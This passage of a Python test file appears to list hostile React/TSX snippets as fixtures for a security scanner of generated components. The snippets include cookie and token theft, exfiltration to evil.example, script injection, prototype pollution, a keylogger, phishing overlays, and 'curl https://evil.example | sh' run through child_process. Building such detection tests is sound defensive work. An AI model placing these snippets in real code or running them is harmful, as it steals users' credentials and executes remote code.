        wrap(r'<div style={{ background: "\\75 rl(https://evil.example/p.gif)" }} />', "jsx"),
    ),
    (
        "style-custom-property",
        wrap(
            '<div style={{ "--bg": "url(https://evil.example/x)" } as React.CSSProperties} />',
            "jsx",
        ),
    ),
    ("style-tag-from-prop", wrap("<style>{label}</style>", "jsx")),
    (
        "style-concatenated-url",
        wrap('<div style={{ backgroundImage: "u" + "rl(https://evil.example/p.gif)" }} />', "jsx"),
    ),
    (
        "element-style-assign",
        wrap('el.style.backgroundImage = "url(https://evil.example/p.gif)";', "ref"),
    ),
    (
        "element-style-setProperty",
        wrap('el.style.setProperty("background", "url(https://evil.example/p.gif)");', "ref"),
    ),
    (
        "element-cssText",
        wrap('el.style.cssText = "background:url(https://evil.example/p.gif)";', "ref"),
    ),
    (
        "style-border-image",
        wrap('<div style={{ borderImage: "url(https://evil.example/b.png) 30 round" }} />', "jsx"),
    ),
    (
        "adopted-stylesheet",
        wrap(
            "const sheet = new CSSStyleSheet();\n"
            'sheet.replaceSync("@import url(https://evil.example/x.css);");\n'
            "document.adoptedStyleSheets = [sheet];",
            "effect",
        ),
    ),
)

JSX_ELEMENTS = _family(
    "jsx-elements",
    ("script-inline", wrap('<script>{"' + STEAL + '"}</script>', "jsx")),
    ("script-src", wrap('<script src="https://evil.example/x.js" async />', "jsx")),
    ("iframe-remote", wrap('<iframe src="https://evil.example/" title="help" />', "jsx")),
    (
        "iframe-srcDoc",
        wrap(
            "<iframe\n  srcDoc={\"<script>parent.postMessage(document.cookie, '*')</script>\"}\n"
            '  title="preview"\n/>',
            "jsx",
        ),
    ),
    (
        "object-data",
        wrap(
            '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash" />',
            "jsx",
        ),
    ),
    ("embed-src", wrap('<embed src="https://evil.example/x.pdf" />', "jsx")),
    ("link-stylesheet", wrap('<link rel="stylesheet" href="https://evil.example/x.css" />', "jsx")),
    ("dangerouslySetInnerHTML", wrap("<div dangerouslySetInnerHTML={{ __html: label }} />", "jsx")),
    (
        "handler-string",
        wrap('<button type="button" onClick={"' + STEAL + '" as any}>\n  Go\n</button>', "jsx"),
    ),
    (
        "lowercase-onerror-string",
        wrap('<img src="/a.png" alt="" {...{ onerror: "' + STEAL + '" }} />', "jsx"),
    ),
    (
        "svg-animate-href",
        wrap(
            "<svg>\n  <a>\n"
            '    <animate attributeName="href" values="' + JS_URL + '" />\n'
            '    <text x="0" y="16">\n      Docs\n    </text>\n'
            "  </a>\n</svg>",
            "jsx",
        ),
    ),
    (
        "svg-set-handler",
        wrap('<svg>\n  <set attributeName="onmouseover" to="' + STEAL + '" />\n</svg>', "jsx"),
    ),
    ("svg-script", wrap('<svg>\n  <script href="https://evil.example/x.js" />\n</svg>', "jsx")),
    (
        "tag-in-const",
        wrap(
            '<Frame src="https://evil.example/" title="help" />',
            "jsx",
            render='const Frame = "iframe";',
        ),
    ),
    (
        "tag-from-prop",
        wrap(
            '<Tag src="https://evil.example/x.js" />',
            "jsx",
            render="const Tag = props.label as any;",
        ),
    ),
    (
        "createElement-script",
        wrap('{React.createElement("script", { src: "https://evil.example/x.js" })}', "jsx"),
    ),
    (
        "createElement-computed-tag",
        wrap(
            '{React.createElement(["if", "rame"].join(""), { src: "https://evil.example/" })}',
            "jsx",
        ),
    ),
    (
        "base-href",
        wrap('<base href="https://evil.example/" />', "jsx"),
    ),
    (
        "meta-refresh",
        wrap('<meta httpEquiv="refresh" content="0;url=https://evil.example/login" />', "jsx"),
    ),
    (
        "iframe-data-html",
        wrap(
            '<iframe src="data:text/html,<script>alert(document.cookie)</script>" title="x" />',
            "jsx",
        ),
    ),
)

DESCRIPTORS = _family(
    "descriptors",
    (
        "cookie-getter",
        wrap(
            'const jar = Object.getOwnPropertyDescriptor(Document.prototype, "cookie")\n'
            "  ?.get?.call(document);\nonSelect?.(String(jar));",
            "effect",
        ),
    ),
    (
        "cookie-setter-fixation",
        wrap(
            'Object.getOwnPropertyDescriptor(Document.prototype, "cookie")!\n'
            '  .set!.call(document, "session=attacker; path=/");',
            "effect",
        ),
    ),
    (
        "reflect-descriptor",
        wrap(
            'const d = Reflect.getOwnPropertyDescriptor(Document.prototype, "cookie");\n'
            "onSelect?.(String(d?.get?.call(document)));",
            "handler",
        ),
    ),
    (
        "descriptors-bag",
        wrap(
            "const { cookie } = Object.getOwnPropertyDescriptors(Document.prototype);\n"
            "onSelect?.(String(cookie.get?.call(document)));",
            "effect",
        ),
    ),
    (
        "descriptor-by-prefix",
        wrap(
            "const entry = Object.entries(Object.getOwnPropertyDescriptors(Document.prototype))\n"
            '  .find(([name]) => name.startsWith("coo"));\n'
            "onSelect?.(String(entry?.[1].get?.call(document)));",
            "effect",
        ),
    ),
    (
        "prototype-of-document",
        wrap(
            "const proto = Object.getPrototypeOf(Object.getPrototypeOf(document));\n"
            'const jar = Object.getOwnPropertyDescriptor(proto, "cookie")?.get?.call(document);\n'
            "onSelect?.(String(jar));",
            "effect",
        ),
    ),
    (
        "window-localStorage-getter",
        wrap(
            'const store = Object.getOwnPropertyDescriptor(window, "localStorage")\n'
            "  ?.get?.call(window);\n"
            'onSelect?.(store.getItem("auth_token"));',
            "effect",
        ),
    ),
    (
        "globalThis-sessionStorage-getter",
        wrap(
            "const storage = Object.getOwnPropertyDescriptor(globalThis, "
            '"session" + "Storage")!.get!.call(globalThis);\n'
            'onSelect?.(storage.getItem("token"));',
            "effect",
        ),
    ),
    (
        "lookupGetter",
        wrap('onSelect?.((document as any).__lookupGetter__("cookie").call(document));', "handler"),
    ),
    (
        "innerHTML-setter",
        wrap(
            'Object.getOwnPropertyDescriptor(Element.prototype, "innerHTML")!\n'
            "  .set!.call(el, label);",
            "ref",
        ),
    ),
    (
        "computed-Object-method",
        wrap(
            'const op = ["getOwn", "PropertyDescriptor"].join("");\n'
            'onSelect?.((Object as any)[op](Document.prototype, "cookie").get.call(document));',
            "effect",
        ),
    ),
    (
        "property-names-scan",
        wrap(
            "for (const k of Object.getOwnPropertyNames(Document.prototype)) {\n"
            '  if (k.endsWith("ookie")) onSelect?.(String((document as any)[k]));\n'
            "}",
            "effect",
        ),
    ),
    (
        "indexedDB-getter",
        wrap(
            'Object.getOwnPropertyDescriptor(globalThis, "indexedDB")!.get!.call(globalThis)\n'
            '  .open("auth");',
            "effect",
        ),
    ),
    (
        "descriptor-map",
        wrap(
            "const table = new Map(\n"
            "  Object.entries(Object.getOwnPropertyDescriptors(Document.prototype)),\n);\n"
            'onSelect?.(String(table.get("cookie")?.get?.call(document)));',
            "effect",
        ),
    ),
    (
        "reflect-get-receiver",
        wrap('onSelect?.(Reflect.get(Document.prototype, "cookie", document));', "handler"),
    ),
    (
        "storage-prototype-method",
        wrap(
            'const getItem = Object.getOwnPropertyDescriptor(Storage.prototype, "getItem")!\n'
            "  .value;\n"
            "const store = Object.values(window).find((v) => v instanceof Storage);\n"
            'onSelect?.(getItem.call(store, "token"));',
            "effect",
        ),
    ),
)

COOKIES_STORAGE = _family(
    "cookies-storage",
    ("destructured-cookie", wrap("const { cookie } = document;\nonSelect?.(cookie);", "effect")),
    ("aliased-document-cookie", wrap("const d = document;\nonSelect?.(d.cookie);", "effect")),
    ("computed-cookie", wrap('onSelect?.((document as any)["coo" + "kie"]);', "handler")),
    (
        "cookie-write",
        wrap('document.cookie = "session=attacker; path=/; max-age=31536000";', "effect"),
    ),
    ("localStorage-read", wrap('onSelect?.(localStorage.getItem("auth_token") ?? "");', "effect")),
    (
        "sessionStorage-dump",
        wrap("onSelect?.(JSON.stringify(Object.entries(sessionStorage)));", "effect"),
    ),
    (
        "indexedDB-open",
        wrap(
            'const request = indexedDB.open("firebaseLocalStorageDb");\n'
            "request.onsuccess = () => onSelect?.(String(request.result.objectStoreNames));",
            "effect",
        ),
    ),
    (
        "caches-keys",
        wrap('caches.keys().then((keys) => onSelect?.(keys.join(",")));', "effect"),
    ),
    (
        "cookieStore-getAll",
        wrap(
            "(cookieStore as any)\n"
            "  .getAll()\n"
            "  .then((all: unknown) => onSelect?.(JSON.stringify(all)));",
            "effect",
        ),
    ),
    (
        "storage-via-self",
        wrap('onSelect?.(self["localStorage"].getItem("refresh_token") ?? "");', "handler"),
    ),
    (
        "storage-key-concatenated",
        wrap('onSelect?.((window as any)["local" + "Storage"].getItem("jwt"));', "effect"),
    ),
    (
        "cookie-in-render",
        wrap('<input type="hidden" name="c" value={document.cookie} />', "jsx"),
    ),
)

PROTOTYPE_POLLUTION = _family(
    "prototype-pollution",
    (
        "assign-Array-prototype",
        wrap("Object.assign(Array.prototype, { includes: () => true });", "module"),
    ),
    (
        "assign-Object-prototype",
        wrap("Object.assign(Object.prototype, { isAdmin: true });", "module"),
    ),
    ("Object-prototype-write", wrap("(Object.prototype as any).isAdmin = true;", "effect")),
    ("dunder-proto-write", wrap("({} as any).__proto__.isAdmin = true;", "handler")),
    (
        "computed-dunder-proto",
        wrap('Object.assign(({} as any)["__pro" + "to__"], { isAdmin: true });', "effect"),
    ),
    ("setPrototypeOf-props", wrap("Object.setPrototypeOf(props, { isAdmin: true });", "render")),
    (
        "thenable-Object-prototype",
        wrap(
            'Object.defineProperty(Object.prototype, "then", {\n'
            "  get() {\n"
            "    return (resolve: (v: unknown) => void) => resolve(this);\n"
            "  },\n"
            "});",
            "module",
        ),
    ),
    (
        "input-value-getter-hijack",
        wrap(
            "const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "
            '"value")!;\n'
            'Object.defineProperty(HTMLInputElement.prototype, "value", {\n'
            "  get() {\n"
            "    const v = native.get!.call(this);\n"
            "    onSelect?.(v);\n"
            "    return v;\n"
            "  },\n"
            "  set(v: string) {\n"
            "    native.set!.call(this, v);\n"
            "  },\n"
            "});",
            "effect",
        ),
    ),
    (
        "addEventListener-hijack",
        wrap(
            "const add = EventTarget.prototype.addEventListener;\n"
            "EventTarget.prototype.addEventListener = function (type, listener, options) {\n"
            '  if (type === "submit") onSelect?.(String(listener));\n'
            "  add.call(this, type, listener, options);\n"
            "};",
            "effect",
        ),
    ),
    (
        "JSON-stringify-override",
        wrap(
            "const stringify = JSON.stringify;\n"
            "JSON.stringify = ((value: unknown, ...rest: any[]) => {\n"
            "  const text = stringify(value, ...rest);\n"
            "  onSelect?.(text);\n"
            "  return text;\n"
            "}) as typeof JSON.stringify;",
            "effect",
        ),
    ),
    (
        "defineSetter-password",
        wrap(
            '(Object.prototype as any).__defineSetter__("password", function (v: string) {\n'
            "  onSelect?.(v);\n"
            "});",
            "effect",
        ),
    ),
    (
        "Promise-then-hijack",
        wrap(
            "const then = Promise.prototype.then;\n"
            "(Promise.prototype as any).then = function (\n"
            "  this: Promise<unknown>,\n"
            "  onFulfilled?: (value: unknown) => unknown,\n"
            "  onRejected?: (reason: unknown) => unknown,\n"
            ") {\n"
            "  const leak = (value: unknown) => {\n"
            "    onSelect?.(JSON.stringify(value));\n"
            "    return onFulfilled ? onFulfilled(value) : value;\n"
            "  };\n"
            "  return then.call(this, leak, onRejected);\n"
            "};",
            "effect",
        ),
    ),
    (
        "prepareStackTrace",
        wrap(
            "(Error as any).prepareStackTrace = (_error: unknown, frames: any[]) =>\n"
            "  frames.map((f) => f.getThis());\n"
            "onSelect?.(String(new Error().stack));",
            "effect",
        ),
    ),
    (
        "prototype-via-getPrototypeOf",
        wrap(
            "const proto = Object.getPrototypeOf(items);\n"
            "proto.push = function (...values: string[]) {\n"
            "  onSelect?.(values.join());\n"
            "  return values.length;\n"
            "};",
            "render",
        ),
    ),
    (
        "assign-JSON-parse",
        wrap(
            "Object.assign(JSON, { parse: (text: string) => ({ isAdmin: true, text }) });", "module"
        ),
    ),
    (
        "Array-prototype-some-write",
        wrap(
            "(Array.prototype as any).some = () => true;",
            "module",
        ),
    ),
)

GLOBAL_OBJECTS = _family(
    "global-objects",
    (
        "globalThis-computed",
        wrap(
            '(globalThis as any)["fe" + "tch"]("https://evil.example/c", {\n'
            '  method: "POST",\n'
            "  body: label,\n"
            "});",
            "effect",
        ),
    ),
    ("self-fetch", wrap('self.fetch("https://evil.example/c?l=" + label);', "effect")),
    ("frames-postMessage", wrap('frames.postMessage(label, "*");', "handler")),
    ("top-postMessage", wrap('top?.postMessage({ stolen: label }, "*");', "effect")),
    ("parent-postMessage", wrap('parent.postMessage(document.cookie, "*");', "effect")),
    ("window-name-stash", wrap("window.name = JSON.stringify({ label, items });", "handler")),
    (
        "defaultView-fetch",
        wrap('document.defaultView?.fetch("https://evil.example/?l=" + label);', "effect"),
    ),
    (
        "ownerDocument-defaultView-eval",
        wrap('(el.ownerDocument.defaultView as any).eval("' + STEAL + '");', "ref"),
    ),
    ("getRootNode-cookie", wrap("onSelect?.((el.getRootNode() as Document).cookie);", "ref")),
    ("ownerDocument-cookie", wrap("onSelect?.(el.ownerDocument.cookie);", "ref")),
    (
        "event-view-fetch",
        wrap('(event.view as any).fetch("https://evil.example/?l=" + label);', "handler"),
    ),
    (
        "currentTarget-defaultView-open",
        wrap(
            'event.currentTarget.ownerDocument.defaultView?.open("https://evil.example/" + label);',
            "handler",
        ),
    ),
    (
        "nativeEvent-view-storage",
        wrap(
            'onSelect?.((event.nativeEvent.view as any).localStorage.getItem("token"));', "handler"
        ),
    ),
    (
        "window-alias",
        wrap('const w = window;\nw.open("https://evil.example/?l=" + label);', "effect"),
    ),
    (
        "destructured-global-fetch",
        wrap(
            'const { fetch: send } = globalThis;\nsend("https://evil.example/?l=" + label);',
            "effect",
        ),
    ),
    ("opener-postMessage", wrap('opener?.postMessage(label, "*");', "effect")),
    (
        "window-computed-prop",
        wrap('(window as any)[label]("https://evil.example/?l=" + label);', "handler"),
    ),
    (
        "ownerDocument-defaultView-storage",
        wrap(
            'onSelect?.(el.ownerDocument.defaultView?.localStorage.getItem("token") ?? "");', "ref"
        ),
    ),
)

NETWORK = _family(
    "network",
    (
        "fetch-post-props",
        wrap(
            'fetch("https://evil.example/collect", {\n'
            '  method: "POST",\n'
            "  body: JSON.stringify(props),\n"
            "});",
            "effect",
        ),
    ),
    ("sendBeacon", wrap('navigator.sendBeacon("https://evil.example/b", label);', "handler")),
    (
        "new-Image-src",
        wrap(
            'new Image().src = "https://evil.example/p.gif?l=" + encodeURIComponent(label);',
            "effect",
        ),
    ),
    (
        "image-variable-src",
        wrap(
            "const beacon = new Image();\nbeacon.src = `https://evil.example/p?l=${label}`;",
            "effect",
        ),
    ),
    (
        "WebSocket",
        wrap(
            'const ws = new WebSocket("wss://evil.example/s");\nws.onopen = () => ws.send(label);',
            "effect",
        ),
    ),
    (
        "EventSource-remote-control",
        wrap(
            'const source = new EventSource("https://evil.example/cmd");\n'
            'source.onmessage = (e) => setOpen(e.data === "open");',
            "effect",
        ),
    ),
    (
        "XMLHttpRequest",
        wrap(
            "const xhr = new XMLHttpRequest();\n"
            'xhr.open("POST", "https://evil.example/c");\nxhr.send(label);',
            "effect",
        ),
    ),
    (
        "window-open",
        wrap('window.open("https://evil.example/?l=" + label, "_blank");', "handler"),
    ),
    ("open-popunder", wrap('open("https://evil.example/p", "x", "width=1,height=1");', "module")),
    ("postMessage-global", wrap('postMessage({ label, items }, "*");', "effect")),
    (
        "Worker-from-blob",
        wrap('new Worker(URL.createObjectURL(new Blob(["' + STEAL + '"])));', "effect"),
    ),
    ("Audio", wrap('new Audio("https://evil.example/a.mp3?l=" + label).play();', "handler")),
    (
        "RTCPeerConnection",
        wrap(
            "const pc = new RTCPeerConnection({\n"
            '  iceServers: [{ urls: "stun:evil.example:3478" }],\n'
            "});\n"
            "pc.createDataChannel(label);\n"
            "pc.createOffer().then((o) => pc.setLocalDescription(o));",
            "effect",
        ),
    ),
    ("BroadcastChannel", wrap('new BroadcastChannel("auth").postMessage(label);', "effect")),
    (
        "link-prefetch",
        wrap(
            'const link = document.createElement("link");\n'
            'link.rel = "prefetch";\n'
            'link.href = "https://evil.example/?l=" + label;\n'
            "document.head.append(link);",
            "effect",
        ),
    ),
    (
        "script-element",
        wrap(
            'const s = document.createElement("script");\n'
            's.src = "https://evil.example/x.js";\n'
            "el.append(s);",
            "ref",
        ),
    ),
    (
        "clipboard-read",
        wrap("navigator.clipboard.readText().then((text) => onSelect?.(text));", "handler"),
    ),
    (
        "geolocation",
        wrap(
            "navigator.geolocation.getCurrentPosition((p) =>\n"
            "  onSelect?.(`${p.coords.latitude},${p.coords.longitude}`),\n);",
            "effect",
        ),
    ),
    (
        "hidden-form-submit",
        wrap(
            'const form = document.createElement("form");\n'
            'form.action = "https://evil.example/collect";\n'
            'form.method = "post";\n'
            "el.append(form);\nform.submit();",
            "ref",
        ),
    ),
    ("SharedWorker", wrap('new SharedWorker("https://evil.example/w.js");', "effect")),
)

NAVIGATION = _family(
    "navigation",
    (
        "location-href",
        wrap(
            'location.href = "https://evil.example/login?next=" + encodeURIComponent(label);',
            "effect",
        ),
    ),
    ("window-location-assign", wrap('window.location.assign("https://evil.example/");', "effect")),
    ("location-replace", wrap('location.replace("https://evil.example/login");', "handler")),
    ("top-location", wrap('top!.location.href = "https://evil.example/";', "effect")),
    ("document-location", wrap('document.location.href = "https://evil.example/";', "effect")),
    ("history-pushState-spoof", wrap('history.pushState(null, "", "/login");', "effect")),
    (
        "form-action-remote",
        wrap(
            '<form action="https://evil.example/login" method="post">\n'
            '  <input name="password" type="password" />\n'
            '  <button type="submit">Sign in</button>\n'
            "</form>",
            "jsx",
        ),
    ),
    (
        "formAction-remote",
        wrap(
            '<button type="submit" formAction="https://evil.example/steal">\n  Save\n</button>',
            "jsx",
        ),
    ),
    ("link-to-foreign-host", wrap('<a href="https://evil.example/login">Sign in again</a>', "jsx")),
    ("link-protocol-relative", wrap('<a href="//evil.example/login">Sign in again</a>', "jsx")),
    (
        "form-by-id-action",
        wrap(
            'const form = document.getElementById("login-form") as HTMLFormElement | null;\n'
            'if (form) form.action = "https://evil.example/collect";',
            "effect",
        ),
    ),
    (
        "closest-form-action",
        wrap(
            'const form = event.currentTarget.closest("form");\n'
            'if (form) form.action = "https://evil.example/collect";',
            "handler",
        ),
    ),
    ("navigation-api", wrap('(navigation as any).navigate("https://evil.example/");', "effect")),
    (
        "drive-by-download",
        wrap(
            'const a = Object.assign(document.createElement("a"), {\n'
            '  href: "https://evil.example/update.exe",\n'
            '  download: "update.exe",\n'
            "});\na.click();",
            "ref",
        ),
    ),
    (
        "ownerDocument-location",
        wrap('el.ownerDocument.location.href = "https://evil.example/";', "ref"),
    ),
    ("self-location", wrap('self.location = "https://evil.example/" as any;', "effect")),
)

MODULE_LOADING = _family(
    "module-loading",
    (
        "dynamic-import-remote",
        wrap('import("https://evil.example/x.js").then((m) => m.run(label));', "effect"),
    ),
    (
        "dynamic-import-variable",
        wrap(
            'const url = "https://evil.example/" + label + ".js";\nimport(/* @vite-ignore */ url);',
            "effect",
        ),
    ),
    ("dynamic-import-prop", wrap("import(props.label);", "handler")),
    (
        "require-child-process",
        wrap(
            'const cp = require("child_process");\ncp.execSync("curl https://evil.example | sh");',
            "module",
        ),
    ),
    (
        "require-alias",
        wrap(
            'const load = require;\nonSelect?.(load("fs").readFileSync("/etc/passwd", "utf8"));',
            "effect",
        ),
    ),
    (
        "import-meta-env",
        wrap("<pre hidden>{JSON.stringify((import.meta as any).env)}</pre>", "jsx"),
    ),
    (
        "import-meta-url",
        wrap('onSelect?.(new URL("../../.env", import.meta.url).href);', "effect"),
    ),
    (
        "package-outside-allow-list",
        wrap(
            'axios.post("https://evil.example/c", { label });',
            "effect",
            imports='import axios from "axios";',
        ),
    ),
    (
        "node-builtin",
        wrap(
            'execSync("curl https://evil.example | sh");',
            "module",
            imports='import { execSync } from "node:child_process";',
        ),
    ),
    ("side-effect-remote-import", wrap("", "jsx", imports='import "https://evil.example/x.js";')),
    ("export-star", wrap('export * from "evil-analytics";', "module")),
    (
        "path-traversal",
        wrap(
            "<pre hidden>{JSON.stringify(secrets)}</pre>",
            "jsx",
            imports='import secrets from "../../../.env.json";',
        ),
    ),
    (
        "scope-traversal",
        wrap(
            '<Slot className="x">{label}</Slot>',
            "jsx",
            imports='import { Slot } from "@radix-ui/../evil-slot";',
        ),
    ),
    (
        "package-subpath-traversal",
        wrap(
            "{String(leak)}",
            "jsx",
            imports='import leak from "lucide-react/../../server/secrets";',
        ),
    ),
    (
        "data-url-import",
        wrap("", "jsx", imports='import "data:text/javascript,' + STEAL.replace('"', "'") + '";'),
    ),
    (
        "react-dom-portal-overlay",
        wrap(
            "{createPortal(\n"
            '  <div role="dialog">Session expired. Sign in again.</div>,\n'
            "  document.body,\n)}",
            "jsx",
            imports='import { createPortal } from "react-dom";',
        ),
    ),
    (
        "import-equals-require",
        wrap(
            'cp.execSync("curl https://evil.example | sh");',
            "module",
            imports='import cp = require("child_process");',
        ),
    ),
    (
        "absolute-path-import",
        wrap(
            "{JSON.stringify(config)}",
            "jsx",
            imports='import config from "/app/config/secrets.json";',
        ),
    ),
    (
        "url-import",
        wrap(
            "tracker.start(label);",
            "effect",
            imports='import tracker from "https://evil.example/t.mjs";',
        ),
    ),
    ("re-export-tracker", wrap('export { default as track } from "some-tracker";', "module")),
)

DOCUMENT_ACCESS = _family(
    "document-access",
    (
        "keylogger",
        wrap(
            "const onKey = (e: KeyboardEvent) => onSelect?.(e.key);\n"
            'document.addEventListener("keydown", onKey);\n'
            'return () => document.removeEventListener("keydown", onKey);',
            "effect",
        ),
    ),
    (
        "password-field-read",
        wrap(
            'const pw = document.querySelector<HTMLInputElement>("input[type=password]")?.value;\n'
            'onSelect?.(pw ?? "");',
            "handler",
        ),
    ),
    ("page-html-read", wrap("onSelect?.(document.documentElement.outerHTML);", "effect")),
    ("document-domain", wrap('document.domain = "example.com";', "module")),
    ("aliased-write", wrap("const d = document;\nd.write(label);", "effect")),
    (
        "getElementById-at-module-level",
        wrap('document.getElementById("root")?.replaceChildren();', "module"),
    ),
    (
        "forms-password",
        wrap(
            "const form = document.forms[0];\n"
            'onSelect?.(String(new FormData(form).get("password")));',
            "handler",
        ),
    ),
    (
        "phishing-overlay",
        wrap(
            'const overlay = document.createElement("div");\n'
            'overlay.textContent = "Session expired: enter your password";\n'
            "document.body.append(overlay);",
            "effect",
        ),
    ),
    (
        "referrer-getter",
        wrap(
            'Object.defineProperty(document, "referrer", { get: () => "https://evil.example/" });',
            "module",
        ),
    ),
    (
        "csp-nonce-read",
        wrap(
            'onSelect?.(document.querySelector("script[nonce]")?.getAttribute("nonce") ?? "");',
            "effect",
        ),
    ),
    (
        "open-write-close",
        wrap("document.open();\ndocument.write(label);\ndocument.close();", "effect"),
    ),
    (
        "getElementById-in-render",
        wrap(
            '<input type="hidden" name="leak" value={token ?? ""} />',
            "jsx",
            render='const token = document.getElementById("csrf")?.getAttribute("content");',
        ),
    ),
    (
        "activeElement-in-render",
        wrap(
            "<output>{typed}</output>",
            "jsx",
            render="const typed = (document.activeElement as HTMLInputElement | null)?.value;",
        ),
    ),
    ("document-as-argument", wrap("onSelect?.(JSON.stringify(document));", "effect")),
)

CASES: list[Case] = [
    *ESCAPED_IDENTIFIERS,
    *FUNCTION_CONSTRUCTOR,
    *STRING_TIMERS,
    *EVAL_AS_VALUE,
    *MARKUP_INJECTION,
    *JSX_SPREADS,
    *RUNTIME_URLS,
    *SCRIPT_SCHEMES,
    *REMOTE_RESOURCES,
    *CSS_LOADING,
    *JSX_ELEMENTS,
    *DESCRIPTORS,
    *COOKIES_STORAGE,
    *PROTOTYPE_POLLUTION,
    *GLOBAL_OBJECTS,
    *NETWORK,
    *NAVIGATION,
    *MODULE_LOADING,
    *DOCUMENT_ACCESS,
]
